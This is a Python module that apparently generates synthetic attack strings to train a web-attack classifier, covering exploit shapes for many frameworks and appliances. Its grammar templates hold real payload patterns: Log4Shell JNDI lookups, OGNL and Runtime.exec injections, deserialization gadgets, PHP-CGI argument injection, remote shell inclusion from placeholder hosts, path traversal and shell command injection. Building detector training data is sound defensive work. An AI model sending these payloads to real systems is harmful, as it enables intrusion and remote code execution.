"""Shapes of exploits of appliances, portals and frameworks: names, values, headers, paths."""

from __future__ import annotations

from random import Random

from securitai.train.corpora.attacks.code_java import stream64, stream_hex
from securitai.train.corpora.attacks.code_script import formatter
from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.kinds import BODY, COOKIE, HEADER, NAME, PATH, VALUE, AttackKind
from securitai.verdict import Category

_UCMD = PARTS.maker("ucmd")


def escaped_groovy(rng: Random) -> str:
    r"""A Groovy call written in ``\uXXXX`` escapes throughout."""
    text = f"throw new Exception('{_UCMD(rng)}'.execute().text);"
    return "".join([f"\\u{ord(char):04x}" for char in text])


_G = Grammar(
    r"""
php_fn = system¦phpinfo¦exec¦passthru¦printf¦assert¦shell_exec¦call_user_func_array¦file_put_contents¦var_dump¦md5¦print_r
value:
  2×‹idx›/‹bs›think‹bs›app/invokefunction
  ‹idx›‹bs›think‹bs›app/invokefunction
  ‹idx›/‹bs›think‹bs›‹Request/input¦Container/invokefunction¦template\driver\file/write¦config/get¦Lang/load›
  __construct
  call_user_func_array
  /Index/\think\app/invokefunction
  ../../../../../vendor/topthink/think-trace/src/TraceDebug
  ../../../../../../usr/local/lib/php/pearcmd
  +config-create+/&/<?=@eval($_POST[‹c›])?>+/tmp/‹az›.php
  account/mail/#value
  3×#{‹num›*‹num›}
  \u0027+{‹num›+‹num›}+\u0027
  \u0027%2b{‹num›*‹num›}%2b\u0027
  ‹groovy›
  {"as ‹az›":{"__class":"GuzzleHttp\\Psr7\\FnStream","__construct()":[{"close":null}],"_fn_close":"‹php_fn›"}}
  {"‹az›":{"__class":"craft\\behaviors\\‹Az›","class":"yii\\rbac\\PhpManager","itemFile":"‹u_file›"}}
  supervisor.supervisord.options.warnings.linecache.os.system
  <methodCall><methodName>supervisor.supervisord.options.warnings.linecache.os.system</methodName><params><param><string>‹ucmd›</string></param></params></methodCall>
  exec(java.lang.Runtime.getRuntime(),'‹ucmd›')
  exec(java.lang.Runtime.getRuntime(),"‹ucmd0›")
  java.lang.T<!-->hread.sleep(‹n›)
  {"userOverridesAsString":"HexAsciiSerializedMap:‹shex›;"}
  {"@type":"com.mchange.v2.c3p0.WrapperConnectionPoolDataSource","userOverridesAsString":"HexAsciiSerializedMap:‹shex›;"}
  HexAsciiSerializedMap:‹shex›;
  {"ap0":"‹net›","format":"3"}
  ‹net›
  {"dataSource":{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}}
  <ser><map-HashMap><map-Entry><map-Key><cus-obj>‹shex›</cus-obj></map-Key><map-Value><std-String value="‹url›"/></map-Value></map-Entry></map-HashMap></ser>
  <%@ Register Tagprefix="‹az›" Namespace="System.Web.UI" Assembly="System.Web, Version=4.0.0.0" %><‹az›:UpdateProgress runat="server"><ProgressTemplate><%@ Import Namespace="System.Diagnostics" %></ProgressTemplate>
  <asp:ExcelDataSet CompressedDataTable="H4sIA‹b64›" DataTable-CaseSensitive="false" runat="server"/>
  DB2_V9:clientRerouteServerListJNDIName=ldap://‹host›/‹az›
  {"url":"jdbc:db2://‹host›:50001/x:clientRerouteServerListJNDIName=ldap://‹hostport›/‹az›;"}
  <template><source>freemarker</source><script>freemarker.template.utility.Execute</script></template>
  ‹az›%00‹az›
  .*/!d;};s/‹az›/<?php phpinfo();?>/;w /usr/local/www/‹rnd›.php‹nl›#
  ‹#10000-99999›*‹#10000-99999›
  print(‹num›*‹num›)
  ${‹num›*‹num›}
  {{‹num›*‹num›}}
  [0:system('‹ucmd0›')]
  @GrabConfig(disableChecksums=true)‹nl›@GrabResolver(name='‹az›',root='http://‹host›')‹nl›import ‹Az›;
  {"script_fields":{"‹az›":{"lang":"groovy","script":"‹num›*‹num›"}}}
  {"script":"‹num›*‹num›","lang":"groovy"}
  project in projectsLeadByUser("‹rnd›")
  <!ENTITY % ‹az› SYSTEM "http://‹host›/‹az›">
  class com.‹az›.‹Az› extends Runnable{static{Runtime.getRuntime().exec("‹ucmd0›");}}
  var s=java.lang.Runtime.getRuntime().exec('‹ucmd0›')
  var bufReader = new java.io.BufferedReader(new java.io.InputStreamReader(java.lang.Runtime.getRuntime().exec("‹ucmd0›").getInputStream()));
  from ‹az› import *‹nl›class ‹Az›(‹Az›):‹nl›    def on_start(self):‹nl›        __import__('os').system('‹ucmd0›')
  ${' '.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('‹ucmd0›')}
  ${file:///etc/passwd}
  system\(\'‹ucmd0›\'\)\
  http://‹site›@‹host›/‹az›
  remote: http://‹host›/‹az›.yml
  <%{‹num›*‹num›}%>
  <%out.print(‹num›*‹num›);%>
  ‹s64›
command:
  cls_mode_login‹nl›‹ucmd0›‹nl›
  ‹ip›;‹ucmd0›
  ‹ip›|‹ucmd0›
  www.‹syl›.com|‹ucmd0›
  a|‹ucmd0›
  ‹n›;‹ucmd0›;
  start|‹ucmd0›
  ';‹ucmd0›;'
  '|‹ucmd0›||'
  $(‹ucmd0›>/‹az›/www/‹rnd›.txt)
  `‹ucmd0›>/tmp/‹az›`
  %24%28‹ucmd0›%29
  '"`;‹ucmd0›;
  ‹az›.conf;‹ucmd0›
  ‹az›%0a‹ucmd0›
  ‹az›‹nl›‹ucmd0›‹nl›
  \x00--exec=`‹ucmd0›`
  ‹az›&&‹ucmd0›
  0;‹ucmd0›
  -1';‹ucmd0›;'
  ‹az›'$(‹ucmd0›)'
  ‹az›"$(‹ucmd0›)"
  nonexistant|(‹ucmd0›)
  expr ‹num› + ‹num›
  ;expr ‹num› + ‹num›
  set /A ‹num›*‹num›
  <language>$(‹ucmd0›)</language>
  sudo rpm --eval '%{lua:os.execute("‹ucmd0›")}'
  \n‹ucmd0›\n
  ;‹ucmd0›\n
  ‹az›;‹ucmd›;
  ‹az›|‹ucmd›
  ‹site›|‹ucmd›
  ‹ip›&&‹ucmd›
  ‹ip›`‹ucmd0›`
  ‹az›%3B‹ucmd0›
bs = \¦\¦\\¦/\¦%5c
idx = index¦/index¦/Index¦index/index¦captcha¦/home¦index/index/index
num:
  ‹#100-999›
  ‹#10000-99999›
  ‹#100000000-999999999›
names:
  2×mail[#post_render][]
  name[#post_render][]
  name[#‹type¦markup¦lazy_builder›]
  ‹az›[#post_render][]
  ‹az›[#‹pre_render¦post_render¦lazy_builder¦access_callback›][]
  server[REQUEST_METHOD]
  _SESSION[‹AZ6›]
  GLOBALS[‹az›]
  GLOBALS[‹az›][‹az›]
  _SERVER[‹az›]
  _GET[‹az›]
  _POST[‹az›]
  _ENV[‹az›]
  mosConfig.absolute.path
  phpbb_root_path
  allow_url_include
  -d allow_url_include
  class.module.classLoader.resources.context.parent.pipeline.first.‹pattern¦suffix¦directory¦prefix¦fileDateFormat›
  class.classLoader.‹resources.dirContext.docBase¦URLs[0]¦jarPath›
  #context["xwork.MethodAccessor.denyMethodExecution"]
  #_memberAccess["allowStaticMethodAccess"]
  ('\43_memberAccess.allowStaticMethodAccess')(a)
  (#a=@java.lang.Runtime@getRuntime().exec('‹ucmd0›'))
  redirect:${‹rn›*‹rn›}
  redirectAction:%{‹rn›*‹rn›}
  action:%{‹rn›}
  method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS
  +defaultData:com.mchange.v2.c3p0.WrapperConnectionPoolDataSource
  ‹az›[T(java.lang.Runtime).getRuntime().exec("‹ucmd0›")]
  <?php ‹php_fn›();?>
  <script>alert(‹d1›)</script>
  widgetConfig[code]
  settings[view options][outputFunctionName]
  settings[view options][‹client¦escapeFunction›]
  ‹az›;‹ucmd0›
  `‹ucmd0›`
  $(‹ucmd0›)
  ../../../../etc/passwd
  ${jndi:ldap://‹host›/‹az›}
  {{‹rn›*‹rn›}}
rn:
  ‹#10-9999›
headers:
  3×middleware:middleware:middleware:middleware:middleware
  src/middleware:src/middleware:src/middleware:src/middleware:src/middleware
  pages/_middleware
  for="[127.0.0.1]:8000";by="[127.0.0.1]:9000"
  %{(#_='multipart/form-data').(#‹az›=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('‹ucmd0›'))}
  T(java.lang.Runtime).getRuntime().exec("‹ucmd›")
  `‹ucmd0›`
  $(‹ucmd›)
  ../../../../../../..‹u_file›
  /../../../opt/‹az›/tmp/‹az›`‹ucmd0›`
  ./../../../../opt/‹az›/device_telemetry/hour/‹az›`curl${IFS}‹host›`
  zerodiumsystem('‹ucmd0›');
  zerodium‹php_fn›("‹ucmd0›");
  <?php ‹php_fn›($_GET['‹az›']); ?>
  () { :;}; echo ‹az›: $(‹ucmd0›)
  exec(‹ucmd0›);
  CSRF-TOKEN=‹az›;‹ucmd0›
  ‹ip›|‹ucmd0›
  ‹user›;‹ucmd0›
  O:21:"JDatabaseDriverMysqli":0:{}
  }__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}}
  ${‹rn›*‹rn›}
  /ecp/default.aspx?‹az›=`‹ucmd0›`
  http://‹host›:80@127.0.0.1/
  Rce:‹ucmd0›
paths:
  /_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx
  /_layouts/‹15¦16›/‹spinstall0¦debug_dev¦info3›.aspx
  /‹OA_HTML/configurator/UiServlet¦OA_HTML/SyncServlet¦OA_HTML/BneViewerXMLService?bne:uueupload=TRUE›
  /api/v2.0/cmdb/system/admin%3f/../../../../../cgi-bin/fwbcgi
  /public/plugins/‹az›/../../../../../../../..‹u_file›
  /render/public/..%252f%255C‹host›%252f%253F%252f..%252f..
  /@fs‹u_file›?import&raw??
  /@fs/x/x/x/vite/../../../../../..‹u_file›?import&?raw
  /‹az›/%252e%252e/php/ztp_gate.php/PAN_help/x.css
  /rest/V1/guest-carts/1/estimate-shipping-methods
  /index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input
  /php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input
  /index.php?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input
  /cgi-bin/php?-d+allow_url_include%3don
  /geoserver/wfs?request=GetPropertyValue&typeNames=‹az›&valueReference=exec(java.lang.Runtime.getRuntime(),'‹ucmd0›')
  /api/v1/validate/code
  /webtools/control/‹main/ProgramExport¦forgotPassword/ProgramExport¦forgotPassword;/ProgramExport¦xmlrpc;/?USERNAME&PASSWORD=s&requirePasswordChange=Y¦ProgramExport/%2e%2e/›
  /bin/get/Main/SolrSearch?media=rss&text=}}}{{async async=false}}{{groovy}}println(‹rn›){{/groovy}}{{/async}}
  /xwiki/bin/view/%22%5D%5D%7B%7Basync%7D%7D%7B%7Bgroovy%7D%7D
  /descriptorByName/org.‹az›/checkScript?value=public+class+x{public+x(){"‹ucmd0›".execute()}}
  /securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.‹az›/checkScriptCompile?value=@GrabConfig(disableChecksums=true)
  /%24%7B%40java.lang.Runtime%40getRuntime().exec(%22‹ucmd0›%22)%7D/
  /%24%7B(%23a%3D%40org.apache.commons.io.IOUtils%40toString(‹rn›))%7D/
  /${‹rn›*‹rn›}/index.action
  /%{‹rn›*‹rn›}
  /%23{‹rn›*‹rn›}
  /{{‹rn›*‹rn›}}
  /‹az›;/‹az›;.‹js¦png›
  /login.jsp/‹az›${‹rn›+‹rn›}.xhtml
  /remote/error?errmsg=ABABAB--%3E%3Cscript%3Ealert(1)%3C/script%3E
  /oauth/idp/.well-known/openid-configuration/..;/
  /Telerik.ReportViewer.axd/../‹az›
  /web/‹az›/..%2f..%2f..%2fwindows%2fwin.ini
  /scripts/‹az›/..%5c..%5c..%5c..%5cwindows\win.ini
  /v1/backend1?action=‹az›&data=<?php ‹php_fn›(‹d1›);?>&account_name=/../../../var/www/php/‹rnd›.php
  /cgi-bin/‹az›.cgi?‹az›=;‹ucmd0›;
  /cgi-bin/‹az›.cgi?‹az›=$(‹ucmd0›)
  /cgi-bin/‹az›.cgi?‹az›=`‹ucmd0›`
  /cgi-bin/account_mgr.cgi?cmd=cgi_user_add&name=';‹ucmd0›;'
  /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=‹b64›
  /‹az›.php?‹az›=‹shell0›
  /‹az›/‹az›.php?‹az›[‹az›]=‹shell0›
  /‹az›/‹az›/‹az›.php?‹mosConfig_absolute_path¦phpbb_root_path¦path¦root¦dir¦inc¦base_path¦config¦include_path¦page¦absolute_path›=‹shell0›
  /index.php?‹page¦file¦module¦include¦view¦content¦p›=‹shell0›
  /(download)/tmp/‹az›.txt
  /api/v4/users/1/../../../..‹u_file›
shell0:
  http://‹hostport›/‹az›.txt?
  http://‹host›/‹c99¦r57¦id¦cmd¦shell›.‹txt¦php¦gif›??
  ftp://‹host›/‹az›.php
  //‹host›/‹az›
  php://input
  data:;base64,‹b64›
""",
    PARTS,
    {"groovy": escaped_groovy, "s64": stream64, "shex": stream_hex, "net": formatter},
)
_V = (VALUE, BODY, COOKIE)
KINDS = (
    AttackKind("product.value", Category.CODE_INJECTION, _G.maker("value"), 4.0, _V),
    AttackKind("product.command", Category.CMDI, _G.maker("command"), 4.0, (VALUE, COOKIE, HEADER)),
    AttackKind("product.name", Category.CODE_INJECTION, _G.maker("names"), 2.0, (NAME,)),
    AttackKind(
        "product.header", Category.CODE_INJECTION, _G.maker("headers"), 2.0, (HEADER, COOKIE)
    ),
    AttackKind("product.path", Category.SCANNER, _G.maker("paths"), 3.0, (PATH,)),
)
